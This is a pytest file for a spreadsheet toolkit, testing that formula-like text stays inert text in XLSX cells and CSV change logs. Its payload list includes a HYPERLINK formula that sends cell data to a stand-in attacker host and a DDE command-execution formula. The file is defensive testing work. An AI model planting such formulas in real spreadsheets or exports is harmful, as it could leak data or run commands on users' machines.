"""Formula injection: text starting with =, +, -, @ (or a tab or CR before them) that the toolkit
writes stays text - in the workbook (an inline string, never an <f> formula) and in the CSV change
log (prefixed with a quote mark, so Excel opens it as text)."""

from __future__ import annotations

import csv
import datetime as dt
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from hostile.build import REGISTER_ROWS, SHEET1, office, register
from lxml import etree
from python_calamine import CalamineWorkbook

from toolkit.jobs.changelog import safe_csv_text
from toolkit.jobs.run import run_jobs
from toolkit.xlsx import update_cells

NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "=1+1\n=2+2",
    "＝1+1",  # full-width equals sign: text in Excel anyway
    " =1+1",
    "=",
    "+",
]


def cell_xml(path: Path, ref: str):
    with zipfile.ZipFile(path) as zf:
        root = etree.fromstring(zf.read(SHEET1))
    for c in root.iter(NS + "c"):
        if c.get("r") == ref:
            return c
    raise AssertionError(f"no cell {ref}")


def test_formula_like_text_is_written_as_text(tmp_path):
    folder = office(tmp_path / "office")
    path = folder / "complaints.xlsx"
    updates = {f"F{k + 2}": v for k, v in enumerate(PAYLOADS)}
    update_cells(path, "投诉跟踪", updates)
    grid = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("投诉跟踪").to_python()
    for k, v in enumerate(PAYLOADS):
        c = cell_xml(path, f"F{k + 2}")
        assert c.get("t") == "inlineStr" and c.find(NS + "f") is None, v
        assert grid[k + 1][5] == v  # read back as the same text
    # openpyxl, a third reader, sees strings, not formulas
    import openpyxl

    ws = openpyxl.load_workbook(path)["投诉跟踪"]
    for k, v in enumerate(PAYLOADS):
        cell = ws.cell(k + 2, 6)
        assert cell.data_type == "s" and isinstance(cell.value, str), (v, cell.data_type)


@pytest.mark.parametrize(
    "value, logged",
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("已关闭", "已关闭"),
        ("a=1", "a=1"),
        (-3.5, "-3.5"),
        (-7, "-7"),
        (Decimal("-0.25"), "-0.25"),  # numbers are numbers, never formulas
        (dt.datetime(2026, 11, 20, 9, 5), "2026-11-20 09:05:00"),
        (None, ""),
    ],
)
def test_change_log_cells_stay_text(value, logged):
    assert safe_csv_text(value) == logged


def test_sync_copies_formula_like_names_as_text_and_logs_them_quoted(tmp_path):
    rows = [list(r) for r in REGISTER_ROWS]
    rows[0][1] = '=HYPERLINK("http://evil.example","点我")'
    rows[1][1] = "@SUM(1+1)"
    rows[2][2] = "+8613800000000"
    rows[3][4] = "\t=2+2"
    folder = office(tmp_path / "office", register_sheets=[register(rows)])
    result = run_jobs(folder, ("sync",), as_of=dt.datetime(2026, 11, 20, 17, 0))
    path = folder / "complaints.xlsx"
    with zipfile.ZipFile(path) as zf:
        xml = zf.read(SHEET1)
    assert b"<f>" not in xml and b"<f " not in xml
    grid = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("投诉跟踪").to_python()
    header = grid[0]
    assert grid[1][header.index("客户名称")] == rows[0][1]
    assert grid[2][header.index("客户名称")] == "@SUM(1+1)"
    assert grid[3][header.index("联系人")] == "+8613800000000"
    with open(result.log_file, encoding="utf-8-sig", newline="") as fh:
        logged = [r for r in csv.reader(fh)][1:]
    new_values = {r[9] for r in logged}
    assert "'" + rows[0][1] in new_values and "'@SUM(1+1)" in new_values and "'+8613800000000" in new_values
    assert "'=2+2" in new_values  # the reader trims the tab; the rest stays text
    assert not [v for v in new_values if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.libreoffice
@pytest.mark.slow
def test_libreoffice_shows_the_text_not_a_result(tmp_path, soffice):
    """An independent spreadsheet program opens the written workbook and shows the text itself."""
    folder = office(tmp_path / "office")
    path = folder / "complaints.xlsx"
    payloads = ["=1+1", "+2+2", "-3+3", "@SUM(4,4)"]
    update_cells(path, "投诉跟踪", {f"F{k + 2}": v for k, v in enumerate(payloads)})
    out = soffice(
        [path], "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", tmp_path / "csv"
    )
    text = "\n".join(p.read_text(encoding="utf-8", errors="replace") for p in out if p.suffix == ".csv")
    for v in payloads:
        assert v in text
    shown = [row[5] for row in csv.reader(text.splitlines()[1:5])]
    assert shown == payloads
